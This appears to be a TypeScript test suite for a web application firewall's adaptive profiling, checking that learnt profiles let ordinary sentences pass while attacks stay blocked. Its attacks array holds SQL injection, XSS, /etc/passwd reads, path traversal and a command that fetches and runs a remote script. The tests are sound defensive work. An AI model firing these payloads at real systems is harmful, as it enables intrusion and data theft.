import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { application, cleanUpApplications, Management, ProxyProcess } from './support/firewall/proxy.ts'
import { eventually } from './support/programs/calls.ts'
import { cleanUp, Server } from './support/programs/server.ts'

/* What a proxy learns, what is proposed from it, and what accepting that does to requests: the Core Rule Set judges. */

let server: Server
let management: Management
let notesPort: number
before(async () => {
  server = await Server.start()
  await ProxyProcess.start(server, undefined, { workers: 2 })
  management = await Management.connect(server)
  // It would let sentences pass by itself.
  await management.call('PUT', 'security-policies/default/second-stage', { status: 'Off' })
  notesPort = await application((incoming, response) => {
    incoming.resume().on('end', () => response.end('reached'))
  })
})
after(async () => {
  await cleanUp()
  cleanUpApplications()
})

interface Proposal {
  readonly url: string
  readonly requests: string
  readonly clients: string
  readonly evidence: string
  readonly parameters: readonly { readonly parameter: string; readonly 'parameter-class': string }[]
  readonly 'second-opinions': readonly { readonly parameter: string }[]
}

async function proposals(service: string): Promise<Proposal[]> {
  const { data = {} } = await management.call('GET', `services/${service}/profile-proposals`)
  return Object.values(data as Record<string, Proposal>)
}

/** A service for notes. @returns sends one from a client */
async function notesService(name: string, learns: boolean) {
  const port = await management.protect(name, notesPort)
  await management.call('PUT', `services/${name}/basic-security`, {
    mode: 'Active',
    'client-ip-addr-header': 'X-Forwarded-For',
  })
  if (learns) await management.call('PUT', `services/${name}/adaptive-profiling`, { status: 'On' })
  await management.untilHealth(`services/${name}`, 'Up')
  return async (path: string, fields?: Record<string, string>, client = '192.0.2.1'): Promise<number> => {
    const reply = await fetch(`http://localhost:${port}${path}`, {
      headers: { 'x-forwarded-for': client, connection: 'close' },
      ...(fields === undefined ? {} : { method: 'POST', body: new URLSearchParams(fields) }),
    })
    await reply.arrayBuffer()
    return reply.status
  }
}

const sentence = "It's for Mondays; select & sum"
const attacks = [
  "1' UNION SELECT password FROM users-- -",
  '<script>alert(document.cookie)</script>',
  'please read; cat /etc/passwd',
  "It's for Mondays; select & sum; wget http://192.0.2.66/x.sh -O- | sh",
  '../../../../etc/passwd',
]

test('nothing is learnt where that is not switched on, and no sentence gets a second opinion unasked', async () => {
  const send = await notesService('plain', false)
  for (let at = 0; at < 30; at++) assert.equal(await send('/notes/1', { note: 'some words' }), 200)
  assert.equal(await send('/notes/1', { note: sentence }), 403)
  assert.deepEqual(await proposals('plain'), [])
})

test('what several workers learn is proposed, also after the management was away and has begun anew', async () => {
  const send = await notesService('notes', true)
  const write = async (count: number) => {
    for (let at = 0; at < count; at++) {
      const fields = { note: `these are words ${at}`, number: String(1_000 + at), pass: 'open sesame' }
      assert.equal(await send(`/notes/${at}`, fields, `192.0.2.${1 + (at % 3)}`), 200)
    }
  }
  await write(20)
  assert.equal(await send('/notes/1', { note: attacks[0] ?? '', evil: '1' }), 403)
  const proposalWith = (requests: number) =>
    eventually(`${requests} requests`, async () => {
      const [one] = await proposals('notes')
      return Number(one?.requests) >= requests ? one : undefined
    })
  await proposalWith(20)
  await server.program.stop()
  await write(10)
  server = await server.again()
  management = await Management.connect(server)
  const proposal = await proposalWith(30)
  assert.deepEqual([proposal.url, proposal.clients, proposal.evidence], ['/notes/*', '3', 'Enough'])
  const classes = Object.fromEntries(
    proposal.parameters.map((one) => [one.parameter, one['parameter-class']]),
  )
  assert.deepEqual(classes, { number: 'Integer', pass: 'Generic' })
  assert.deepEqual(
    proposal['second-opinions'].map(({ parameter }) => parameter),
    ['note'],
  )
})

test('accepting it lets sentences pass and is logged, attacks are refused as before, and deleting undoes it', async () => {
  const send = await notesService('accepted', true)
  for (let at = 0; at < 24; at++) {
    const fields = { note: 'these are words', number: String(at) }
    assert.equal(await send('/notes', fields, `192.0.2.${1 + (at % 3)}`), 200)
  }
  await eventually('proposals', async () => {
    const [one] = await proposals('accepted')
    return Number(one?.requests) >= 24 ? one : undefined
  })
  assert.equal(await send('/notes', { note: sentence }), 403)
  await management.call('POST', 'services/accepted/profile-proposals', { 'second-opinions': 'Yes' })
  await management.call('PUT', 'services/accepted/website-profile', { mode: 'Active' })
  await management.untilHealth('services/accepted', 'Up')
  for (const attack of attacks) {
    assert.equal(await send('/notes', { note: attack }), 403, attack)
    assert.equal(await send('/notes', { note: sentence, other: attack }), 403, attack)
    assert.equal(await send('/notes', { note: sentence, number: attack }), 403, attack)
    assert.equal(await send(`/elsewhere?note=${encodeURIComponent(attack)}`), 403, attack)
  }
  assert.equal(await send(`/elsewhere?note=${encodeURIComponent(sentence)}`), 403)
  assert.equal(await send('/notes', { note: sentence, number: '7' }), 200)
  const [entry] = await management.entries(
    'web-firewall-logs',
    (one) => one['service-name'] === 'accepted' && one.attack === 'second-opinion',
  )
  assert.match(entry?.['attack-detail'] ?? '', /ARGS:note .* ordinary text/)
  assert.equal(entry?.action, 'LOG')
  const { data = {} } = await management.call('GET', 'services/accepted/second-opinions')
  for (const name of Object.keys(data as object)) {
    await management.call('DELETE', `services/accepted/second-opinions/${encodeURIComponent(name)}`)
  }
  await management.untilHealth('services/accepted', 'Up')
  assert.equal(await send('/notes', { note: sentence }), 403)
})
